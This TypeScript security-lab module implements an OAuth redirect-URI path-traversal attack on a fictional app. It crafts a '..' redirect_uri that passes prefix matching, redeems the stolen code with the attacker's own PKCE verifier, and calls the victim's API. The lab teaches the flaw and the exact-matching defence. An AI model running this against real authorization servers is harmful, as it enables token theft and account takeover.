/**
 * Security lab: loose redirect URI matching.
 *
 * Acme Notes, a web app, registered one redirect URI, its callback. An attacker
 * who can publish a page anywhere on the same site crafts an authorization link
 * for Acme Notes whose redirect_uri starts with that callback and then climbs
 * out of it with `..` to the attacker's page. A server that compares redirect
 * URIs by prefix accepts it; the browser resolves the dot segments and delivers
 * the victim's code to the attacker's page. The attacker started the request,
 * so it holds the PKCE verifier and redeems the code itself: PKCE binds a code
 * to whoever started the request, not to the app the user thinks they approve.
 *
 * A server that compares the redirect URI exactly against the registered one
 * refuses the link with its own error page and redirects nowhere.
 *
 * @see RFC 9700 §4.1 (insufficient redirect URI validation) and §4.1.3 (exact matching)
 * @see RFC 6749 §3.1.2.2, §4.1.2.1 (an invalid redirect URI is never redirected to) and §10.6
 */
import * as oauth from 'oauth4webapi';
import {alertText} from './browser-actions';

/** What the attacker knows: all of it public. */
export interface LabConfig {
  issuer: string;
  /** Acme Notes' client_id, which any link to its sign-in carries. */
  clientId: string;
  /** The redirect URI Acme Notes registered. */
  registeredRedirectUri: string;
  /** A page on the same site that the attacker controls and reads. */
  attackerPage: string;
  scope: string;
  /** Identifier of the API the access token is for (RFC 8707 `resource`). */
  audience: string;
  fetch?: (url: string, init: RequestInit) => Promise<Response>;
  /** Allow plain-HTTP requests to an authorization server on this machine only. */
  allowInsecureRequests?: boolean;
}

/** The attacker's own one-time values: the request is the attacker's, so these are too. */
export interface AttackerSecrets {
  state: string;
  pkce: {verifier: string; challenge: string; method: 'S256'};
}

/** Whether the server sent the browser on (the link passed its check) or showed its own error page. */
export type LinkVerdict = {accepted: true} | {accepted: false; status: number; page: string; message: string};

/** What the attacker got from the code: tokens, or the server's refusal. */
export type RedeemOutcome =
  | {redeemed: true; tokens: oauth.TokenEndpointResponse}
  | {redeemed: false; status: number; error: string; error_description?: string};

const client = (config: LabConfig): oauth.Client => ({client_id: config.clientId, token_endpoint_auth_method: 'none'});

function httpOptions(config: LabConfig): oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> {
  const options: oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> = {};
  // oauth4webapi refuses http: URLs unless told otherwise (RFC 6749 §3.1 and §3.2 require TLS).
  if (config.allowInsecureRequests) options[oauth.allowInsecureRequests] = true;
  const customFetch = config.fetch;
  // oauth4webapi's request options are fetch()'s RequestInit in all but their TypeScript name.
  if (customFetch) options[oauth.customFetch] = (url, init) => customFetch(url, init as RequestInit);
  return options;
}

/** Fetches the authorization server's metadata (RFC 8414 §3). */
export async function discover(config: LabConfig): Promise<oauth.AuthorizationServer> {
  const issuer = new URL(config.issuer);
  return oauth.processDiscoveryResponse(issuer, await oauth.discoveryRequest(issuer, httpOptions(config)));
}

/** The attacker makes its own state and PKCE pair (RFC 7636 §4.1-4.2), and keeps the verifier. */
export async function createAttackerSecrets(): Promise<AttackerSecrets> {
  const verifier = oauth.generateRandomCodeVerifier();
  return {
    state: oauth.generateRandomState(),
    pkce: {verifier, challenge: await oauth.calculatePKCECodeChallenge(verifier), method: 'S256'},
  };
}

/**
 * A redirect URI that starts with the registered one and, once the browser resolves its `..` segments
 * (WHATWG URL, RFC 3986 §5.2.4), is the attacker's page on the same site.
 */
export function craftRedirectUri(registered: string, attackerPage: string): string {
  const from = new URL(registered);
  const to = new URL(attackerPage);
  if (from.origin !== to.origin)
    throw new Error('The attacker needs a page on the same origin as the registered redirect URI.');
  const fromSegments = from.pathname.split('/').slice(1);
  const toSegments = to.pathname.split('/').slice(1);
  let shared = 0;
  while (shared < Math.min(fromSegments.length, toSegments.length) - 1 && fromSegments[shared] === toSegments[shared])
    shared++;
  // The registered URI counts as a folder: each of its segments past the shared ones is one `..`.
  const crafted = `${registered}/${'../'.repeat(fromSegments.length - shared)}${toSegments.slice(shared).join('/')}`;
  if (new URL(crafted).href !== to.href) throw new Error(`${crafted} does not resolve to ${attackerPage}.`);
  return crafted;
}

/** The link the attacker sends the victim: Acme Notes' sign-in, its code sent to the crafted URI (RFC 6749 §4.1.1). */
export function buildAuthorizationUrl(as: oauth.AuthorizationServer, config: LabConfig, secrets: AttackerSecrets): URL {
  if (!as.authorization_endpoint) throw new Error('The authorization server metadata has no authorization_endpoint.');
  const url = new URL(as.authorization_endpoint);
  url.searchParams.set('response_type', 'code');
  url.searchParams.set('client_id', config.clientId);
  // The attack: a redirect URI that passes a prefix check and lands on the attacker's page.
  url.searchParams.set('redirect_uri', craftRedirectUri(config.registeredRedirectUri, config.attackerPage));
  url.searchParams.set('scope', config.scope);
  url.searchParams.set('resource', config.audience);
  url.searchParams.set('state', secrets.state);
  url.searchParams.set('code_challenge', secrets.pkce.challenge);
  url.searchParams.set('code_challenge_method', secrets.pkce.method);
  return url;
}

/**
 * Asks the authorization endpoint for the link without following its answer. A redirect (which a page
 * sees only as an opaque redirect) means the redirect URI passed the server's check; a refused redirect
 * URI gets the server's own error page and no redirect at all (RFC 6749 §4.1.2.1).
 */
export async function checkLink(authorizationUrl: string, config: LabConfig): Promise<LinkVerdict> {
  const fetchFn = config.fetch ?? ((url: string, init: RequestInit) => fetch(url, init));
  const response = await fetchFn(authorizationUrl, {method: 'GET', redirect: 'manual', headers: {accept: 'text/html'}});
  if (response.type === 'opaqueredirect' || (response.status >= 300 && response.status < 400)) return {accepted: true};
  const page = await response.text();
  return {accepted: false, status: response.status, page, message: alertText(page)};
}

/**
 * The attacker's page read the code from its own address. The attacker redeems it with its verifier and
 * the same crafted redirect URI, which is what the server bound the code to (RFC 6749 §4.1.3).
 */
export async function redeemCode(
  as: oauth.AuthorizationServer,
  config: LabConfig,
  secrets: AttackerSecrets,
  landedUrl: URL | string,
): Promise<RedeemOutcome> {
  const parameters = oauth.validateAuthResponse(as, client(config), new URL(landedUrl), secrets.state);
  const redirectUri = craftRedirectUri(config.registeredRedirectUri, config.attackerPage);
  const response = await oauth.authorizationCodeGrantRequest(
    as,
    client(config),
    oauth.None(),
    parameters,
    redirectUri,
    secrets.pkce.verifier,
    httpOptions(config),
  );
  try {
    return {redeemed: true, tokens: await oauth.processAuthorizationCodeResponse(as, client(config), response)};
  } catch (error) {
    if (!(error instanceof oauth.ResponseBodyError)) throw error;
    return {
      redeemed: false,
      status: error.status,
      error: error.error,
      ...(error.error_description ? {error_description: error.error_description} : {}),
    };
  }
}

/** The attacker calls the API as the victim, with the access token it got (RFC 6750 §2.1). */
export async function callApi(
  url: string,
  accessToken: string,
  config: LabConfig,
): Promise<{status: number; body: unknown}> {
  const response = await oauth.protectedResourceRequest(
    accessToken,
    'GET',
    new URL(url),
    new Headers({accept: 'application/json'}),
    null,
    httpOptions(config),
  );
  return {status: response.status, body: await response.json().catch(() => null)};
}
